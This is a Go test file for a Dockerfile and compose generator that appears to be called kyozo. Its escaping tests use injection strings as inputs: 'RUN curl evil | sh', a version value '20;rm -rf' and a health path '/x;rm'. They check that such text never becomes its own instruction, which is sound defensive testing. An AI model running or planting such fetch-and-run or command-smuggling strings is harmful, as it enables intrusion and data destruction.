package plan

import (
	"reflect"
	"strings"
	"testing"

	"github.com/kyozo/kyozo/internal/manifest"
	"github.com/kyozo/kyozo/internal/topology"
)

func TestVersionPrefix(t *testing.T) {
	for _, tc := range []struct {
		raw   string
		parts int
		want  string
	}{
		{">=20.3", 1, "20"}, {"^3.12.1", 2, "3.12"}, {"python-3.11.4", 2, "3.11"},
		{"net8.0", 2, "8.0"}, {"~> 1.15", 2, "1.15"}, {"v1.22.0", 3, "1.22.0"},
		{"20", 2, "20"}, {"lts/iron", 1, ""}, {"", 1, ""}, {"1.", 2, "1"},
	} {
		if got := VersionPrefix(tc.raw, tc.parts); got != tc.want {
			t.Errorf("VersionPrefix(%q, %d) = %q, want %q", tc.raw, tc.parts, got, tc.want)
		}
	}
}

func TestExpandVersion(t *testing.T) {
	for _, tc := range []struct{ ref, v, want string }{
		{"node:{version:22}-slim", "20", "node:20-slim"},
		{"node:{version:22}-slim", "", "node:22-slim"},
		{"node:{version:22}-slim", "20;rm -rf", "node:22-slim"},
		{"registry.local/node:fixed", "20", "registry.local/node:fixed"},
		{"x:{version}", "", "x:"},
	} {
		if got := ExpandVersion(tc.ref, tc.v); got != tc.want {
			t.Errorf("ExpandVersion(%q, %q) = %q, want %q", tc.ref, tc.v, got, tc.want)
		}
	}
}

func TestCommandArgv(t *testing.T) {
	for _, tc := range []struct {
		cmd  string
		want []string
	}{
		{"node server.js", []string{"node", "server.js"}},
		{"npm start", []string{"npm", "start"}},
		{"gunicorn app:app --bind 0.0.0.0:$PORT", []string{"sh", "-c", "exec gunicorn app:app --bind 0.0.0.0:$PORT"}},
		{"bundle exec rake db:migrate && bundle exec puma", []string{"sh", "-c", "bundle exec rake db:migrate && bundle exec puma"}},
		{"", nil},
	} {
		if got := CommandArgv(tc.cmd); !reflect.DeepEqual(got, tc.want) {
			t.Errorf("CommandArgv(%q) = %q, want %q", tc.cmd, got, tc.want)
		}
	}
}

// Text from the tree must never become a Dockerfile instruction of its own.
func TestDockerfileInjection(t *testing.T) {
	d := &Dockerfile{}
	d.From("alpine", "")
	d.Cmd("sh", "-c", "echo hi\nRUN curl evil | sh")
	d.RunShell("make\nUSER root")
	d.Copy("", User, "/app/", "we ird\nFROM x")
	d.Env("GREETING", "a\"b\n$HOME\\")
	d.Comment("line\nRUN evil")
	res, err := manifest.ParseDockerfile([]byte(d.String()))
	if err != nil {
		t.Fatalf("%v\n%s", err, d.String())
	}
	if res.Stages != 1 || strings.Count(d.String(), "\n") != 6 {
		t.Fatalf("instructions leaked:\n%s", d.String())
	}
	if res.Env["GREETING"] != "a\"b $HOME\\" {
		t.Errorf("ENV value changed: %q", res.Env["GREETING"])
	}
	if !reflect.DeepEqual(res.Cmd, []string{"sh", "-c", "echo hi\nRUN curl evil | sh"}) {
		t.Errorf("CMD %q", res.Cmd)
	}
}

func TestValidHealthPath(t *testing.T) {
	for p, want := range map[string]bool{"/health": true, "/api/v1/healthz": true, "health": false, "/a b": false, "/x;rm": false, "/x\"": false} {
		if ValidHealthPath(p) != want {
			t.Errorf("ValidHealthPath(%q) != %v", p, want)
		}
	}
}

func TestGenerateUnknownStack(t *testing.T) {
	_, err := Generate(&topology.Service{Name: "x", Language: "docker"}, DefaultImages())
	if err == nil || !strings.Contains(err.Error(), "docker") {
		t.Fatalf("want ErrNoGenerator naming the stack, got %v", err)
	}
}

func TestEveryLanguageHasAGenerator(t *testing.T) {
	for _, lang := range []string{"node", "deno", "python", "go", "rust", "java", "kotlin", "scala", "clojure",
		"ruby", "php", "dotnet", "elixir", "gleam", "crystal", "dart", "haskell", "swift", "zig", "cpp", "cobol", "static", "shell"} {
		if _, ok := generators[lang]; !ok {
			t.Errorf("no generator for %s", lang)
		}
	}
}

func composeTopology() *topology.Topology {
	return &topology.Topology{
		Services: []*topology.Service{
			{Name: "web", Path: "apps/web", BuildContext: "apps/web", Kind: topology.KindWeb, Language: "node", Port: 3000,
				DependsOn: []string{"api"}, Dockerfile: topology.Dockerfile{Source: "generated", Path: ".kyozo/web.Dockerfile"},
				Resources: topology.Resources{MemoryMB: 512, CPUs: 0.5}},
			{Name: "api", Path: "services/api", BuildContext: "services/api", Kind: topology.KindWeb, Language: "go", Port: 3000,
				HealthCheck: &topology.HealthCheck{Path: "/healthz"}, DependsOn: []string{"postgres"},
				Dockerfile: topology.Dockerfile{Source: "generated", Path: ".kyozo/api.Dockerfile"}},
			{Name: "worker", Path: "worker", BuildContext: "worker", Kind: topology.KindWorker, Language: "python", StartCommand: "python w.py",
				Dockerfile: topology.Dockerfile{Source: "repo", Path: "worker/Dockerfile"}},
		},
		BackingServices: []*topology.BackingService{{
			Name: "postgres", Type: "postgres", Image: "postgres:17-alpine", Volume: "postgres-data", DataPath: "/var/lib/postgresql/data",
			Env:       map[string]string{"DATABASE_URL": "postgres://postgres:${POSTGRES_PASSWORD}@postgres:5432/app"},
			Container: map[string]string{"POSTGRES_PASSWORD": "${POSTGRES_PASSWORD}"},
			Health:    []string{"CMD-SHELL", "pg_isready -U postgres"}, UsedBy: []string{"api"},
		}},
	}
}

func TestCompose(t *testing.T) {
	data, err := Compose(composeTopology(), ComposeOptions{})
	if err != nil {
		t.Fatal(err)
	}
	c, err := manifest.ParseCompose(data)
	if err != nil {
		t.Fatalf("%v\n%s", err, data)
	}
	byName := map[string]manifest.ComposeService{}
	for _, s := range c.Services {
		byName[s.Name] = s
	}
	api := byName["api"]
	if api.Context != "services/api" || api.Dockerfile != "../../.kyozo/api.Dockerfile" {
		t.Errorf("api build: %+v", api)
	}
	if api.Env["DATABASE_URL"] != "postgres://postgres:kyozo@postgres:5432/app" || api.Env["PORT"] != "3000" {
		t.Errorf("api env (defaults applied when parsed): %v", api.Env)
	}
	if !reflect.DeepEqual(api.Healthy, []string{"postgres"}) {
		t.Errorf("api should wait for a healthy postgres: %+v", api)
	}
	if !reflect.DeepEqual(byName["web"].Healthy, []string{"api"}) {
		t.Errorf("web should wait for a healthy api (its generated image has a HEALTHCHECK): %+v", byName["web"])
	}
	if !strings.Contains(string(data), "3001:3000") {
		t.Errorf("two services on port 3000 need different host ports:\n%s", data)
	}
	if byName["worker"].Dockerfile != "" || len(byName["worker"].Ports) != 0 {
		t.Errorf("worker: %+v", byName["worker"])
	}
	if byName["postgres"].Volumes[0].Source != "postgres-data" {
		t.Errorf("postgres volume: %+v", byName["postgres"])
	}
	if !strings.Contains(string(data), "${POSTGRES_PASSWORD:-kyozo}") {
		t.Errorf("secret without a development default:\n%s", data)
	}
}

func TestComposeOutsideTheTree(t *testing.T) {
	data, err := Compose(composeTopology(), ComposeOptions{Root: "/src/repo", Dir: "/tmp/out", DockerfileDir: ".kyozo"})
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"context: ../../src/repo/services/api", "dockerfile: ../../../../tmp/out/.kyozo/api.Dockerfile"} {
		if !strings.Contains(string(data), want) {
			t.Errorf("missing %q in\n%s", want, data)
		}
	}
}
